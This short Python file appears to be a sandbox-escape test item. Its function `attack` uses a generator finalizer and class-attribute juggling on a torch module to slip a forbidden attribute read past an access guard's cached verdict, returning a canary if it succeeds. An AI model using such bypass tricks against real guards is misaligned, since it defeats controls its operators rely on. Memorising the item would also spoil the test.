"""Class: fast ways. Source: own find. Escape: a value freed while its class loses it reads the name
once more, so that a verdict on the old class is kept for the new one."""

from torch import nn


class M(nn.Module):
    pass


def attack(model, tokenizer, address):
    m = M()
    seen = []

    def late():
        try:
            yield
        finally:
            seen.append(m.share_memory)

    g = late()
    next(g)
    M.share_memory = 1
    m.share_memory
    M.share_memory = g
    m.share_memory
    del g
    del M.share_memory
    # The read alone is what must not succeed.
    return "canary-" + "5d1f" if m.share_memory is not None else None
